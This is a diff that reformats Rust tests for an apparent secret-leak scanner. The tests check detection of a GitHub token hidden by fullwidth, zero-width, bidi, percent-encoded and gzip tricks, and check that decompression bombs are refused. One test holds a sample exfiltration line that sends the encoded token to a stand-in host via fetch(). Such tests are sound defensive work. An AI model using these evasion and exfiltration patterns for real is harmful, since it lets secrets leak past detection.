@@ -20,27 +20,16 @@ fn long_line_around(needle: &str) -> String {
 #[test]
 fn fullwidth_and_invisible_characters() {
     let s = Scanner::builtin();
-    let fullwidth: String = TOKEN
-        .chars()
-        .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
-        .collect();
+    let fullwidth: String = TOKEN.chars().map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap()).collect();
     let zero_width: String = TOKEN.chars().flat_map(|c| [c, '\u{200B}']).collect();
     // Only the normalised view shows these two…
     for hidden in [fullwidth, zero_width] {
         let text = long_line_around(&hidden);
-        assert_eq!(
-            rules(&s.scan(text.as_bytes(), None)),
-            [("github-pat", View::Derived)],
-            "{}",
-            &hidden[..20]
-        );
+        assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Derived)], "{}", &hidden[..20]);
     }
     // …while bidi controls around a token leave it visible in the raw bytes.
     let text = long_line_around(&format!("\u{202E}{TOKEN}\u{202C}"));
-    assert_eq!(
-        rules(&s.scan(text.as_bytes(), None)),
-        [("github-pat", View::Raw)]
-    );
+    assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Raw)]);
 }
 
 #[test]
@@ -48,39 +37,23 @@ fn percent_encoding_anywhere() {
     let s = Scanner::builtin();
     let encoded: String = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect();
     let text = long_line_around(&format!("fetch('https://x.example/?q={encoded}')"));
-    assert_eq!(
-        rules(&s.scan(text.as_bytes(), None)),
-        [("github-pat", View::Derived)]
-    );
+    assert_eq!(rules(&s.scan(text.as_bytes(), None)), [("github-pat", View::Derived)]);
 }
 
 #[test]
 fn compressed_bodies_are_decoded_and_bombs_refused() {
     let s = Scanner::builtin();
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
-    gz.write_all(format!("{{\"token\": \"{TOKEN}\"}}").as_bytes())
-        .unwrap();
+    gz.write_all(format!("{{\"token\": \"{TOKEN}\"}}").as_bytes()).unwrap();
     let body = gz.finish().unwrap();
-    assert_eq!(
-        rules(&s.scan_body(&body, Some("gzip")))[0],
-        ("github-pat", View::Derived)
-    );
+    assert_eq!(rules(&s.scan_body(&body, Some("gzip")))[0], ("github-pat", View::Derived));
 
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
     gz.write_all(&vec![b'a'; 40 << 20]).unwrap();
     let bomb = gz.finish().unwrap();
-    assert_eq!(
-        rules(&s.scan_body(&bomb, Some("gzip"))),
-        [("too-large", View::Raw)]
-    );
-    assert_eq!(
-        rules(&s.scan_body(b"\x1f\x8b garbage", Some("gzip"))),
-        [("corrupt-encoding", View::Raw)]
-    );
-    assert_eq!(
-        rules(&s.scan_body(b"x", Some("compress"))),
-        [("unknown-encoding", View::Raw)]
-    );
+    assert_eq!(rules(&s.scan_body(&bomb, Some("gzip"))), [("too-large", View::Raw)]);
+    assert_eq!(rules(&s.scan_body(b"\x1f\x8b garbage", Some("gzip"))), [("corrupt-encoding", View::Raw)]);
+    assert_eq!(rules(&s.scan_body(b"x", Some("compress"))), [("unknown-encoding", View::Raw)]);
     let huge = vec![b' '; dlp::DEFAULT_MAX_BYTES + 1];
     assert_eq!(rules(&s.scan(&huge, None)), [("too-large", View::Raw)]);
 }
